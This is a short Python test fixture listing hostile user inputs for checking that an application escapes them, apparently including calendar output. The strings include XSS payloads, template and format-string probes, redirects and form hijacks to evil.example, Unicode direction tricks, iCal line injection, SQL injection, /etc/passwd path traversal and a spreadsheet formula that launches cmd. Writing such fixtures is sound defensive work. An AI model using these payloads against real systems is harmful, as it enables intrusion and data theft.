"""What somebody might type who does not mean well."""

from __future__ import annotations

HOSTILE = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d {name} {0} {",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></svg></button></form>",
    "<!--",
    "--><script>alert(1)</script>",
    "]]><![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#0;",
    "<a href=javascript:alert(1)>x</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=csrf_token>",
    "<div hx-get=/host hx-trigger=load>",
    "\u202egnp.tiod\u202c\u2066\u2069",
    "\u200b\ufeff\u2028\u2029\u00ad",
    "﷽" * 40,
    "Z̴̡̛͓a̸̱l̷͚g̶o̵" * 9,
    "1\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-EVIL:1",
    "; DROP TABLE guests; --' OR '1'='1",
    "../../../../etc/passwd\\..\\",
    "=HYPERLINK(1)+cmd|' /C calc'!A0",
]
"""Tags, attributes, templates, links, controls of direction, lines of a calendar, and very long words."""

HARMLESS = "Plain words"
